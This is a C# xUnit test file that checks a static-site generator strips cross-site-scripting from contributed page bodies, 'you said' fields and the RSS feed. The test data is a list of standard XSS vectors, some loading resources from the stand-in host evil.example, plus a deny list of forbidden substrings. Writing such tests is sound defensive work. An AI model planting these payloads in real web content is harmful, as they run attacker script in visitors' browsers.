using ImpactSite.Tests.Support;
using ImpactSite.Content.Studies;

namespace ImpactSite.Tests.Privacy;

/// <summary>Contributed HTML is sanitised: known cross-site-scripting vectors never reach readers, in bodies or short fields.</summary>
public sealed class XssTests
{
    public static TheoryData<string> Vectors => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "[x](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/\"><input name=q><button>Go</button></form>",
        "<style>body{background:url(https://evil.example/)}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<details open ontoggle=alert(1)>x</details>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p data-x=\"1\" onmouseover=\"alert(1)\">x</p>",
        "text{onclick=alert(1)}",
    };

    static readonly string[] Forbidden =
        ["<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:text", "<iframe",
         "<object", "<embed", "<form", "<input", "<button", "<style", "style=", "<meta", "<base", "evil.example/x.css"];

    static void AssertClean(string html)
    {
        foreach (var bad in Forbidden) Assert.DoesNotContain(bad, html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Vectors_in_a_body_are_removed(string vector)
    {
        using var temp = new TempSite();
        temp.Write("pages/x.md", $"---\ntitle: X\n---\nBefore.\n\n{vector}\n\nAfter.\n");
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        var main = site.Page("/x/").QuerySelector("main")!.InnerHtml;
        AssertClean(main);
        Assert.Contains("Before.", main); // an unclosed vector may swallow what follows it, never what precedes it
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Vectors_in_a_you_said_field_are_removed_from_pages_feeds_and_data(string vector)
    {
        using var temp = new TempSite();
        temp.Study("alpha").Write("studies/alpha/decisions/d.md",
            $"---\ntitle: D\nraised: 2025-01-01\nyou_said: '{vector.Replace("'", "''")}'\nstatus: open\n---\n");
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        var page = site.Page("/studies/alpha/decisions/d/");
        AssertClean(page.QuerySelector("main")!.InnerHtml);
        var feed = System.Net.WebUtility.HtmlDecode(site.Text("feed.xml"));
        AssertClean(feed);
        // The entry itself is still published, in the page and the feed: only the active content went.
        Assert.Equal("D", page.QuerySelector("h1")!.TextContent);
        Assert.NotNull(page.QuerySelector(".you-said"));
        Assert.Contains("<title>D (Open: not yet answered)</title>", site.Text("feed.xml"));
    }
}
